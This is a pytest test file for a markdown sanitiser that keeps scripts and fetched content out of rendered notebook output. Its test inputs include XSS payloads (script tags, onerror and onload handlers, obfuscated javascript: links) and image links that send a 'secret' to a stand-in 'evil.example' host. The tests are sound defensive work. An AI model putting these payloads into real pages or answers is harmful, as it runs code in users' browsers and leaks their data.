from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from toolchat.api.answers import safe_markdown

PLAIN = "# Title\n\n- *a* `b < c`\n- [link](https://example.com/a?b=c)\n\n```python\nif a < b:\n    print(1)\n```\n"


def rendered(text: str) -> str:
    """As a notebook reads it: with the HTML that stands in it."""
    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def test_markdown_without_html_images_and_odd_addresses_stays_as_it_is() -> None:
    assert safe_markdown(PLAIN) == PLAIN


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)> b",
        "```\ncode\n\n<script>alert(1)</script>\n```\n\n<script>alert(2)</script>",
        "`` ` <script>alert(1)</script> ``",
        "    indented\n\n<svg onload=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/?q=secret",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](<javascript: alert(1)>)",
        "[x](data:text/html,1)",
        "[x](vbscript:x)",
        "<javascript:alert(1)>",
        "</code></pre><script>alert(1)</script>",
        "> <iframe src=x>\n> - <b>x</b>",
        "<!-- --><script>alert(1)</script>",
        "<?x <script>alert(1)</script>",
    ],
)
def test_nothing_that_runs_or_is_fetched_reaches_a_notebook(text: str) -> None:
    shown = rendered(safe_markdown(text))
    assert re.search(r"<(script|img|svg|iframe|\?)", shown) is None
    assert re.search(r'href="(?!https?:|mailto:)', shown) is None


def test_code_with_angle_brackets_is_shown_as_it_was_written() -> None:
    text = "Use:\n\n```cpp\n#include <vector>\n\nstd::vector<int> a;\n```\n\nand `List<int>`."
    shown = rendered(safe_markdown(text))
    words = re.sub(r"<!--.*?-->|<[^>]*>", "", shown).replace("&lt;", "<").replace("&gt;", ">")
    assert "#include <vector>\n\nstd::vector<int> a;" in words
    assert "List<int>" in words


@settings(max_examples=60)
@given(
    st.lists(
        st.sampled_from(
            [
                "<script>",
                "`",
                "```",
                "\n",
                "\n\n",
                "    ",
                "<",
                "![",
                "](",
                "javascript:",
                "a",
                "~~~",
                "> ",
                "- ",
                "\t",
                ")",
            ]
        ),
        max_size=14,
    )
)
def test_no_mixture_of_marks_makes_a_script(pieces: list[str]) -> None:
    shown = rendered(safe_markdown("".join(pieces)))
    assert re.search(r"<(script|img)", shown) is None
    assert re.search(r'href="(?!https?:|mailto:)[a-z]+:', shown) is None


def test_control_characters_are_made_visible() -> None:
    assert "\x1b" not in safe_markdown("a\x1b[2Jb")
